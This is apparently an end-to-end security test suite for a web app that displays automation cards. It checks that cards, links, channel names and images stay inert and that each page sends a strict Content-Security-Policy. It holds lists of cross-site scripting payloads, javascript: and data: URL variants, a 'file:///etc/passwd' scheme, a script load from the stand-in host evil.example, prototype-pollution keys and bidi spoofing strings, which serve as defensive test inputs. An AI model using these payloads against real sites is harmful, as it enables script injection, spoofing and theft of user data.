// Cards are harmless: all content of an automation is text. It can't run, open a dialog, send a request or become a
// script, and no page allows inline scripts.
import type { Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { buttons, input, kv, text } from './support/api.ts'
import { doneButton } from './support/interactions.ts'
import { press } from './support/page.ts'
import { api, createChannel, server, setStage, signedIn } from './support/stage.ts'
import { card, openChannel } from './support/visit.ts'

setStage()

const HTML = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '"><svg onload=window.hacked=1>',
  '\'><iframe srcdoc="<script>parent.hacked = 1</script>">',
  '<a href="javascript:window.hacked=1">x</a>',
  '</p></article></main><script src=//evil.example/x.js></script>',
  '{{constructor.constructor("window.hacked=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: text of an attacker
  '${window.hacked=1}',
]
const SCHEMES = [
  'javascript:window.hacked=1',
  'JaVaScRiPt:window.hacked=1',
  ' javascript:window.hacked=1',
  'java\tscript:window.hacked=1',
  'java\nscript:window.hacked=1',
  '\u0001javascript:window.hacked=1',
  '&#106;avascript:window.hacked=1',
  'javascript&colon;window.hacked=1',
  'data:text/html,<script>window.hacked=1</script>',
  'vbscript:window.hacked=1',
  'file:///etc/passwd',
  'blob:https://evil.example/1',
]
const BIDI = '\u202Egpj.exe\u202C \u2066isolated\u2069'
const NAMES = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty']

/** A page, and a check that nothing did harm: no dialog, window or request to another host. */
async function watched() {
  const { page } = await signedIn()
  const harm: string[] = []
  page.on('dialog', dialog => {
    harm.push(`dialog ${dialog.message()}`)
    dialog.dismiss()
  })
  page.on('popup', popup => harm.push(`popup ${popup.url()}`))
  page.on('request', request => {
    const own = request.url().startsWith(server.url)
    if (!own && request.resourceType() !== 'image') harm.push(`${request.resourceType()} ${request.url()}`)
  })
  page.on('console', message => {
    if (message.text().includes('Content Security Policy')) harm.push(message.text())
  })
  await page.route(/^https?:\/\/[^/]*\.example\//, route => route.abort())
  const expectHarmless = async () => {
    expect(harm).toEqual([])
    await expectCleanPage(page)
  }
  return { page, expectHarmless }
}

async function openWatched(channel: string) {
  const opened = await watched()
  await openChannel(opened.page, server, channel)
  return opened
}

async function expectCleanPage(page: Page): Promise<void> {
  expect(await page.evaluate(() => Reflect.get(window, 'hacked'))).toBeUndefined()
  expect(await page.evaluate(() => Reflect.get({}, 'polluted'))).toBeUndefined()
  const odd = await page.evaluate(() =>
    [...document.querySelectorAll('#app *')].flatMap(element => [
      ...(/^(script|iframe|object|embed|base|link|meta)$/i.test(element.tagName) ? [element.outerHTML] : []),
      ...[...element.attributes].filter(({ name }) => name.startsWith('on')).map(({ name }) => name),
    ]),
  )
  expect(odd).toEqual([])
  // All at once, because a card that is scrolled away takes its links along.
  const links = await page
    .locator('article a, .channel-head a')
    .evaluateAll(found => found.map(link => [link.getAttribute('href'), link.getAttribute('rel')]))
  for (const [href, rel] of links) {
    expect(href).toMatch(/^https?:\/\//i)
    expect(rel).toContain('noopener')
    expect(rel).toContain('noreferrer')
  }
}

/** Every block type, with `words` in every string. */
const blocksWith = (words: string) => [
  text(words, `text ${words}`.slice(0, 100)),
  { type: 'badge', label: words },
  { type: 'kv', rows: [{ key: words, value: words }] },
  { type: 'button', buttons: [{ id: words.slice(0, 100), label: words, confirm: words }] },
  { type: 'image', url: 'https://images.example/a.png', alt: words },
  { type: 'input', label: words, value: words, placeholder: words, hint: words },
  { type: 'input', label: words, value: words, multiline: true },
  { type: 'select', label: words, hint: words, placeholder: words, options: [words], value: words },
  { type: 'multiselect', label: words, hint: words, options: [words], value: [words] },
  { type: 'toggle', label: words, hint: words },
]

test('HTML and scripts in any string of any block appear as text', async () => {
  const { id } = await createChannel()
  const { page, expectHarmless } = await openWatched(id)
  for (const words of [...HTML, ...SCHEMES.map(scheme => scheme.replace('\u0001', ''))]) {
    const pushed = await api.push(id, blocksWith(words))
    const shown = page.locator(`[data-card-id="${pushed.id}"]`)
    await shown.waitFor()
    await expect.poll(() => shown.locator('.text').textContent()).toBe(words)
    const value = () => shown.locator('input[type="text"]').first().inputValue()
    await expect.poll(value).toBe(words.replace(/[\n\r]/g, ''))
    await expectHarmless()
  }
})

test('the question before a click is text', async () => {
  const [words = ''] = HTML
  const { id } = await createChannel({}, buttons({ label: 'Press', confirm: words }))
  const { page, expectHarmless } = await openWatched(id)
  await press(page, 'Press')
  await page.getByRole('alertdialog').getByText(words).waitFor()
  await expectHarmless()
})

test('only http and https addresses become links and images', async () => {
  const { id } = await createChannel()
  for (const scheme of SCHEMES) {
    const image = api.push(id, [{ type: 'image', url: scheme }])
    await expect(image, scheme).rejects.toThrow(/400/)
  }
  const words = [
    ...SCHEMES.filter(scheme => !scheme.startsWith('\u0001')),
    'https://ok.example/a?b=1#c',
    'HTTPS://OK.example/',
    'https://ok.example/"onmouseover="window.hacked=1',
    'https://user:pass@ok.example/',
    'https://javascript:1@ok.example/',
    `https://ok.example/${BIDI}`,
  ].join('\n')
  await api.push(id, [text(words), kv([{ key: 'Link', value: words }])])
  const { page, expectHarmless } = await openWatched(id)
  const shown = page.getByRole('article').first()
  await shown.waitFor()
  await expectHarmless()
  const links = await shown.locator('.text a').evaluateAll(all => all.map(link => link.getAttribute('href')))
  // The last six lines, and the address inside `blob:`.
  expect(links).toHaveLength(7)
  // A character that turns the direction of writing could make one address look like another.
  expect(links.filter(link => /[\u202A-\u202E\u2066-\u2069]/.test(link ?? ''))).toEqual([])
})

test('an SVG with a script stays a picture, and its request has no referrer and no cookie', async () => {
  const { id } = await createChannel()
  const { page, expectHarmless } = await openWatched(id)
  const requests: Record<string, string>[] = []
  await page.route('https://images.example/**', async route => {
    requests.push(await route.request().allHeaders())
    const script = '<script>parent.hacked=1;window.hacked=1</script>'
    const body = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="window.hacked=1">${script}</svg>`
    await route.fulfill({ contentType: 'image/svg+xml', body })
  })
  await api.push(id, [{ type: 'image', url: 'https://images.example/a.svg', alt: 'A picture' }])
  await page.getByRole('img', { name: 'A picture' }).waitFor()
  await expect.poll(() => requests.length).toBeGreaterThan(0)
  expect(requests.filter(headers => headers.referer !== undefined || headers.cookie !== undefined)).toEqual(
    [],
  )
  await expectHarmless()
})

test('names of Object.prototype work as ids and keys', async () => {
  const { id, card_id } = await createChannel(
    {},
    ...NAMES.map(name => text(`id ${name}`, name)),
    kv(NAMES.map(name => ({ key: name, value: '{"polluted": 1}' }))),
    input('valueOf', 'Note'),
    buttons(...NAMES.map(name => ({ id: name, label: `Press ${name}` }))),
  )
  const { page, expectHarmless } = await openWatched(id)
  for (const name of NAMES) await page.getByText(`id ${name}`, { exact: true }).waitFor()
  for (const name of NAMES)
    await api.patch(id, card_id, { blocks: [{ id: name, patch: { content: `changed ${name}` } }] })
  for (const name of NAMES) await page.getByText(`changed ${name}`, { exact: true }).waitFor()
  await page.getByLabel('Note').fill('typed')
  await press(page, 'Press __proto__')
  await doneButton(page, 'Press __proto__').waitFor()
  await expectHarmless()
})

test('the longest strings and right-to-left overrides stay inside their card', async () => {
  const { id } = await createChannel({}, ...blocksWith('W'.repeat(2_000)))
  await api.push(id, [text('i'.repeat(10_000)), kv([{ key: 'k'.repeat(500), value: 'v'.repeat(10_000) }])])
  await api.push(id, blocksWith(BIDI))
  const { page, expectHarmless } = await watched()
  await page.setViewportSize({ width: 390, height: 844 })
  await openChannel(page, server, id)
  await page.getByRole('article').first().waitFor()
  const wide = await page.evaluate(() => {
    const main = document.querySelector('main')
    return main ? main.scrollWidth - main.clientWidth : -1
  })
  expect(wide).toBe(0)
  await expectHarmless()
})

test('the name of a channel is text in the bar, the tab, the lists and the palette', async () => {
  const { page, expectHarmless } = await watched()
  const names = [...HTML.slice(0, 3).map(words => words.slice(0, 80)), `Safe${BIDI}`]
  for (const name of names) {
    const { id } = await createChannel({ name, description: `${name} https://ok.example/` }, text('A card'))
    await api.addAction(id, name, 'primary', 1)
    await openChannel(page, server, id)
    await card(page, 'A card').waitFor()
    await expect.poll(() => page.locator('.channel-words').textContent()).toBe(name)
    await expect.poll(() => page.title()).not.toMatch(/[\u202A-\u202E]/)
    await expectHarmless()
    await page.goto(`${server.url}/dashboard/channels/${id}`)
    await page.getByRole('heading', { level: 1, name }).waitFor()
    await expectHarmless()
  }
  await page.goto(server.url)
  await page.getByRole('link', { name: names[0] }).first().waitFor()
  await page.keyboard.press('Control+k')
  await page.getByRole('option', { name: names[0] }).first().waitFor()
  await expectHarmless()
})

test('every page allows only scripts from its own files', async () => {
  const paths = '/ /sign-in /sign-up /dashboard /dashboard/keys /nowhere /w/any /docs /api/v1/docs'.split(' ')
  for (const path of [...paths, `/c/${server.channel_id}`]) {
    const { headers } = await fetch(server.url + path)
    const policy = headers.get('Content-Security-Policy') ?? ''
    const directives = new Map(policy.split(/;\s*/).map(one => [one.split(' ')[0], one.split(' ').slice(1)]))
    const scripts = directives.get('script-src') ?? directives.get('default-src')
    expect(scripts, path).toBeDefined()
    for (const loose of ["'unsafe-inline'", "'unsafe-eval'", '*', 'http:', 'https:', 'data:', 'blob:'])
      expect(scripts, path).not.toContain(loose)
    expect(directives.get('object-src') ?? directives.get('default-src'), path).toEqual(["'none'"])
    expect(directives.get('base-uri'), path).toEqual(["'none'"])
    expect(headers.get('X-Content-Type-Options'), path).toBe('nosniff')
    expect(headers.get('Referrer-Policy'), path).toBe('no-referrer')
  }
})

test('stacked accents don’t reach the cards next to them', async () => {
  const { id } = await api.createChannel('Accents')
  await api.push(id, [text('Below')])
  const stacked = await api.push(id, [text(`Z${'\u0301\u0323'.repeat(40)}algo`)])
  await api.push(id, [text('Above')])
  const { page } = await signedIn()
  await openChannel(page, server, id)
  const neighbours = () => Promise.all(['Above', 'Below'].map(words => card(page, words).screenshot()))
  await card(page, 'algo').waitFor()
  const before = await neighbours()
  await api.patch(id, stacked.id, { blocks: [{ id: 'text', patch: { content: 'Plain' } }] })
  await card(page, 'Plain').waitFor()
  expect((await neighbours()).map((after, i) => before[i]?.equals(after))).toEqual([true, true])
})
